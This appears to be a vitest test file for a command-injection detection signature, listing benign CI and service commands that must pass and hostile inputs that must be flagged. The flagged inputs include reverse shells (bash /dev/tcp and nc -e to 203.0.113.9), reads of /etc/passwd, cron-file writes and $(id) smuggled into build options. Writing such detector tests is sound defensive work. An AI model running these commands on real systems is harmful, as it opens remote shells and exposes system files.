import { expect, test } from 'vitest';
import { commandInjection } from '../../../src/attacks/signatures/command-injection.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const MORE = { a: 'one', b: 'two', c: 'three', d: 'four' };

const among = (fields: object): readonly string[] => foundIn(commandInjection, jsonBody({ ...MORE, ...fields }));

test.each([
  [{ before_install: 'wget https://example.org/menu/setup.sh' }],
  [{ install: 'wget https://example.org/menu/setup.sh' }],
  [{ after_success: 'curl -s https://example.org/menu/done' }],
  [{ ExecReload: '/bin/kill -HUP $MAINPID' }],
  [{ ExecStartPre: '/bin/mkdir -p /run/menu' }],
  [{ before_script: ['make scan && [ "$(find build/menu -name *.html)" = \'\' ]'] }],
  [{ script: ['if [ ! -n "$(cat errors.log)" ]; then make; fi'] }],
  [{ steps: [{ run: './menu/print.py\ngit diff --quiet MENU.md || git commit -a -m "Menu"' }] }],
  [{ services: { web: { command: 'sh -c "echo ready && tail -f /dev/null"' } } }],
])('what builds and services run is theirs: %j', (fields) => {
  expect(among(fields)).toEqual([]);
});

test.each([
  [{ install: 'bash -i >& /dev/tcp/203.0.113.9/9001 0>&1' }],
  [{ install: 'menu;cat /etc/passwd' }],
  [{ ExecStart: '/bin/sh -c "nc -e /bin/sh 203.0.113.9 9001"' }],
  [{ installed: 'wget https://example.org/menu/setup.sh' }],
  [{ before_script: ['[ "$(cat /etc/passwd)" = 1 ]'] }],
  [{ before_script: ['[ "$(whoami)" = 1 ]'] }],
  [{ title: 'make scan && [ "$(find build/menu -name *.html)" = \'\' ]' }],
  [{ steps: [{ run: './menu/print.py\ncat /etc/passwd' }] }],
  [{ title: './menu/print.py\nnpm install /tmp/x' }],
  [{ services: { web: { command: 'sh -c "echo ready && cat /etc/passwd"' } } }],
  [{ services: { web: { command: 'sh -c "echo ready >/etc/cron.d/x && tail -f /dev/null"' } } }],
  [{ value: 'sh -c "echo ready && tail -f /dev/null"' }],
  [{ command: 'sh -c "ping 203.0.113.9"' }],
  [{ command: 'sh -c id' }],
  [{ command: 'sh -c "exec /tmp/x"' }],
  [{ before_script: ['[ "$(/usr/bin/id)" = 1 ]'] }],
])('what an intruder runs, or stands in another field, is found: %j', (fields) => {
  expect(among(fields)).not.toEqual([]);
});

test.each(['make -j$(nproc)', 'cmake --build . --parallel "$(nproc)" --target all', 'ninja -j $(nproc) all'])(
  'an option is given the number of processors: %s',
  (text) => {
    expect(foundIn(commandInjection, text)).toEqual([]);
  },
);

test.each([
  '$(nproc)',
  'x$(nproc)',
  'a-j$(nproc)',
  ';nproc',
  '-j$(nproc;id)',
  '-j$(id)',
  '-j$(nproc)$(id)',
  '-j;nproc',
])('and anything else is what somebody runs: %s', (text) => {
  expect(foundIn(commandInjection, text)).not.toEqual([]);
});

test.each(['import sys; print(sys.executable)', 'import sys; print(sys.version_info, sys.prefix)'])(
  'an interpreter is asked what it is: %s',
  (code) => {
    expect(foundIn(commandInjection, jsonBody({ readme: `- Path: \`python -c '${code}'\`` }))).toEqual([]);
  },
);

test.each([
  'import sys; sys.exec_prefix.x(open(1))',
  'import sys; print(sys.modules)',
  'import sys, os; print(os.listdir(1))',
  'import sys; print(open(sys.path[0]))',
])('but not made to run, read or load anything: %s', (code) => {
  expect(foundIn(commandInjection, jsonBody({ readme: `- Path: \`python -c '${code}'\`` }))).not.toEqual([]);
});
